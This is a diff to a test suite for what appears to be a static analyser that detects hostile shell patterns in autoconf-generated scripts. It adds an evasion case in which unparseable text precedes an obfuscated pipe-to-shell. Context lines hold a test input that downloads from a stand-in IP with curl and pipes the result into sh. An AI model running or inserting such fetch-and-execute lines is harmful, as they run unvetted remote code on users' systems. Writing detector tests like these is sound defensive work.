@@ -130,6 +130,10 @@ describe("self-append and literal printers (autoconf 2.69)", () => {
     expect(ids("e='cat y.c'\nif test -n \"$a\"; then e='printf %s\\n'; else e=echo; fi\n$e \"exit 0\" | sh\n")).toEqual([]);
   });
 
+  it("evasion: past a region the parser could not read, no assignment is trusted to kill another", () => {
+    expect(ids("e='cat y.c'\nx=$( ; \nif test -n \"$a\"; then e='printf %s\\n'; else e=echo; fi\n$e \"exit 0\" | sh\n")).toContain("pipe-to-shell");
+  });
+
   it("positive: a printer reached through sh -c and expr prints the literal, which is analysed", () => {
     const t = "b='eval expr \"X$1\" : \"X\\\\(.*\\\\)\"'\ne='sh -c $b e'\n$e \"curl -s http://203.0.113.9/x | sh\" | sh\n";
     expect(ids(t)).toContain("build-time-download");
